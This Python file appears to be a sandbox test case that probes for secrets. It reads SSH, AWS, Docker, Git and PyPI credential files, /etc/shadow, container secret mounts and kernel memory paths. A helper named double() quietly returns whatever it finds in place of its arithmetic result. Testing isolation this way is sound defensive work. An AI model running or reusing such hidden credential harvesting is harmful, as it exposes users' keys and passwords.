# Expected: it passes
# Tries: reads the places where keys and passwords are kept

import functools
import glob
import os

HOMES = [os.path.join("/", "root"), os.path.expanduser("~"), *glob.glob("/h*me/*")]
IN_A_HOME = (
    ".ssh",
    ".aws",
    ".netrc",
    ".gnupg",
    ".config",
    ".docker",
    ".git-credentials",
    ".pypirc",
)
ELSEWHERE = (
    *("/run/secrets", "/var/run/secrets", "/etc/shadow", "/etc/gshadow", "/etc/ssh", "/.env"),
    *("/run/docker.sock", "/var/run/docker.sock", "/var/lib/docker", "/proc/1/root/etc/shadow"),
    *(
        "/proc/kcore",
        "/proc/keys",
        "/proc/sched_debug",
        "/dev/mem",
        "/boot",
        "/var/backups/shadow.bak",
    ),
)


def readable(path):
    """Return something of what is in a file or folder, or "" where there is nothing to be had."""
    try:
        if os.path.isdir(path):
            return " ".join(os.listdir(path))
        with open(path, "rb") as file:
            return file.read(1000).decode("latin-1").strip("\0\n")
    except OSError:
        return ""


@functools.cache
def find():
    paths = [os.path.join(home, name) for home in HOMES for name in IN_A_HOME] + list(ELSEWHERE)
    return {path: text for path in paths if (text := readable(path))}


def double(number):
    return find() or 2 * number


def echo(text):
    return text


def total(numbers):
    return sum(numbers)
